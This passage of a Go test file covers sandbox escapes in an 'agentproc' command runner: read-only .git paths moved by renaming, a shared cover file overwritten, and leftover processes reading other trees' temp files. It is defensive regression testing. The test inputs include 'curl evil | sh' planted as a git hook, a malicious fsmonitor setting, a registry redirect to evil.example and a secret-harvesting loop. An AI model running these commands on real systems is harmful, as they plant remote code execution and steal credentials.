			t.Errorf("a sandboxed tree read serve's token file %s: output %q, want it hidden", p, out.Text)
		}
	}
}

// TestAttackReadOnlyParentRenamed: a ReadOnly path below a directory the
// tree may rename (Write: [ws], ReadOnly: [ws/repo/.git]: a repository in
// a wider workspace) was bound read-only where it lay, and the bind moves
// with its directory: the tree renamed ws/repo away (its .git still
// read-only, at ws/repo.old/.git), made ws/repo/.git again with a hook,
// and the host's next git in ws/repo ran the hook unconfined. Nothing was
// missing and no mount came or went, so neither the live repair nor the
// next Start saw it; the next tree wrote ws/repo/.git directly too. The
// directories between a Write directory and a ReadOnly path are now
// mount points in the namespace, which a tree cannot rename. The control:
// an unconfined tree makes the same moves.
func TestAttackReadOnlyParentRenamed(t *testing.T) {
	requireRootSandbox(t)
	attack := `mv repo repo.old && mkdir -p repo/.git/hooks && echo 'curl evil | sh' > repo/.git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> repo/.git/config`
	setup := func(t *testing.T) (ws, hook string) {
		ws = t.TempDir()
		if err := os.MkdirAll(filepath.Join(ws, "repo", ".git", "hooks"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ws, "repo", ".git", "config"), []byte("[core]\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		return ws, filepath.Join(ws, "repo", ".git", "hooks", "pre-commit")
	}
	ws, hook := setup(t)
	runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: attack})
	if _, err := os.Stat(hook); err != nil {
		t.Fatalf("control: an unconfined tree's moves left no hook: %v", err)
	}
	ws, hook = setup(t)
	sb := agentproc.WorkspaceSandbox(ws)
	sb.ReadOnly = append(sb.ReadOnly, filepath.Join(ws, "repo", ".git"))
	m := newManager(t, agentproc.WithSandbox(sb))
	for i, cmd := range []string{attack, `echo 'curl evil | sh' > repo/.git/hooks/pre-commit`} {
		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: cmd})
		if _, err := os.Stat(hook); err == nil {
			t.Fatalf("Start %d: a sandboxed tree made %s (ReadOnly %s), output %q; want it refused", i+1, hook, sb.ReadOnly[1], out.Text)
		}
	}
	// The repository's files stay the tree's to write, and to move out
	// (a copy across the mount point).
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: `echo work > repo/f && mv repo/f g && cat g`})
	if !strings.Contains(out.Text, "work") {
		t.Errorf("a sandboxed tree writing and moving repo/f: output %q, want it done", out.Text)
	}
}

// TestAttackCoverFileInWrite: as root, hidden files are covered by binds
// of one empty file of mode 000 (sandboxCache.emptyFile), made in
// os.TempDir(). A policy whose Write holds that directory (Write:
// ["/tmp"], which the sandbox accepts) lets its tree, the file's owner
// (uid 0), chmod and write it: every hidden file of every tree of the
// Manager then reads as what it wrote (a planted ~/.npmrc with another
// registry, say), for the Manager's life. The file and its directory are
// now immutable (sandboxCache.emptyFile). The control reads the cover
// empty before the plant; the tree's writes there go through.
func TestAttackCoverFileInWrite(t *testing.T) {
	requireRootSandbox(t)
	home, err := os.MkdirTemp("/var/tmp", "agentproc-home-")
	if err != nil {
		t.Skip(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(home) })
	if within, _ := filepath.Rel(os.TempDir(), home); !strings.HasPrefix(within, "..") {
		t.Skipf("the home %s must lie outside the temp dir %s", home, os.TempDir())
	}
	t.Setenv("HOME", home)
	npmrc := filepath.Join(home, ".npmrc")
	if err := os.WriteFile(npmrc, []byte("//registry.npmjs.org/:_authToken=SECRET\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ws := t.TempDir()
	wide := agentproc.WorkspaceSandbox(ws)
	wide.Write = append(wide.Write, os.TempDir())
	m := newManager(t, agentproc.WithRedaction(false))
	read := agentproc.Request{WorkDir: ws, Sandbox: agentproc.WorkspaceSandbox(ws), Command: "cat " + shellQuote(npmrc) + "; true"}
	if out := runSandboxed(t, m, read); out.Text != "" && !strings.Contains(out.Text, "Permission denied") {
		t.Fatalf("control: the cover read %q, want nothing", out.Text)
	}
	cover, err := agentproc.CoverFile(m)
	if err != nil {
		t.Fatal(err)
	}
	witness := filepath.Join(os.TempDir(), "agentproc-wide-"+strconv.Itoa(os.Getpid()))
	t.Cleanup(func() { _ = os.Remove(witness) })
	plant := `echo wrote > ` + shellQuote(witness) + `; chmod 644 ` + shellQuote(cover) + `; echo registry=http://evil.example/ > ` + shellQuote(cover) + `; true`
	runSandboxed(t, m, agentproc.Request{WorkDir: ws, Sandbox: wide, Command: plant})
	if _, err := os.Stat(witness); err != nil {
		t.Fatalf("control: the wide tree could not write in %s: %v", os.TempDir(), err)
	}
	if out := runSandboxed(t, m, read); strings.Contains(out.Text, "evil") {
		t.Errorf("a tree of another policy read %s as %q: the wide tree wrote the cover, want it refused", npmrc, out.Text)
	}
}

// TestAttackLeftoverReadsNextTempDir: a process of a tree that sheds the
// marker (env -i) and leaves the session (setsid) outlives its tree
// without a cgroup (docs/containment.md says so), still confined, and
// its namespace still binds the tree's temp dir. The dir, left empty,
// was recycled by a rename, the same inode, for a later tree: the
// leftover read that tree's temp files. A temp dir is now reused only
// when the tree's cgroups were removed (then no process of it is left);
// otherwise it is removed. The control: the later tree's file is there
// for its own tree to read.
func TestAttackLeftoverReadsNextTempDir(t *testing.T) {
	requireRootSandbox(t)
	ws := t.TempDir()
	leak := filepath.Join(ws, "leak")
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	// The leftover writes its PID first, for the cleanup to end it (it is
	// this test's; no sweep finds it), then looks for files in its tree's
	// temp dir for up to 10 s.
	leftover := `echo $$ > "$OUT.pid"; i=0; while [ $i -lt 200 ]; do c=$(cat "$T"/* 2>/dev/null); if [ -n "$c" ]; then echo "$c" > "$OUT"; exit; fi; sleep 0.05; i=$((i+1)); done`
	t.Cleanup(func() {
		if data, err := os.ReadFile(leak + ".pid"); err == nil {
			if pid, err := strconv.Atoi(strings.TrimSpace(string(data))); err == nil && pid > 1 {
				_ = unix.Kill(pid, unix.SIGKILL)
			}
		}
	})
	a := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: `(env -i PATH="$PATH" T="$TMPDIR" OUT=` + shellQuote(leak) +
		` setsid sh -c ` + shellQuote(leftover) + ` > /dev/null 2>&1 &); echo started`})
	if !strings.Contains(a.Text, "started") {
		t.Fatalf("tree A: output %q", a.Text)
	}
	// Later trees, each with a secret in its temp dir while it waits for
	// the leak (or 1 s); the second was handed A's dir here.
	for i := range 3 {
		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws,
			Command: `echo SECRET-OF-TREE-` + strconv.Itoa(i) + ` > "$TMPDIR/s"; n=0; while [ ! -e leak ] && [ $n -lt 20 ]; do sleep 0.05; n=$((n+1)); done; cat "$TMPDIR/s"`})
		if !strings.Contains(out.Text, "SECRET-OF-TREE-") {
			t.Fatalf("control: tree %d read %q from its own temp dir", i, out.Text)
		}
		if data, err := os.ReadFile(leak); err == nil {
			t.Fatalf("a leftover of an earlier tree read %q from tree %d's temp dir, want it unreachable", data, i)
		}
	}
}

// TestAttackTempDirFromNoDefaultWriteWide: a NoDefaultWrite policy runs
// its trees in the policy's namespace (no temp dir of their own), where
// the shared temp root is hidden only if no Write directory holds it.
// With Write: [os.TempDir()] it was neither hidden nor covered, and the
// tree read the temp files of the Manager's other trees (and of every
// Manager of the user). As root the namespace now covers the shared root
// whatever Write holds. The controls: the other tree's file is there, and
// the tree writes elsewhere in the temp dir.
func TestAttackTempDirFromNoDefaultWriteWide(t *testing.T) {
	requireRootSandbox(t)
	home, err := os.MkdirTemp("/var/tmp", "agentproc-home-")
	if err != nil {
		t.Skip(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(home) })
	if rel, _ := filepath.Rel(os.TempDir(), home); !strings.HasPrefix(rel, "..") {
		t.Skipf("the home %s must lie outside the temp dir %s", home, os.TempDir())
	}
	t.Setenv("HOME", home)
	ws := t.TempDir()
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	b, bTmp := otherTree(t, m, ws)
	wide := agentproc.WorkspaceSandbox(ws)
	wide.NoDefaultWrite = true
	wide.Write = append(wide.Write, os.TempDir())
	witness := filepath.Join(os.TempDir(), "agentproc-wide-"+strconv.Itoa(os.Getpid()))
	t.Cleanup(func() { _ = os.Remove(witness) })
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Sandbox: wide,
		Command: `echo wrote > ` + shellQuote(witness) + `; cat ` + shellQuote(filepath.Join(bTmp, "f"))})
	if _, err := os.Stat(witness); err != nil {
		t.Errorf("control: the NoDefaultWrite tree could not write in %s: %v (output %q)", os.TempDir(), err, out.Text)
	}
	if err := b.CloseStdin(testContext(t)); err != nil {
		t.Fatal(err)
	}
	mustWait(t, b)
	if strings.Contains(out.Text, "SECRET-OF-B") {
		t.Errorf("a NoDefaultWrite tree with Write %s read tree B's temp file: output %q, want it refused", os.TempDir(), out.Text)
	}
}
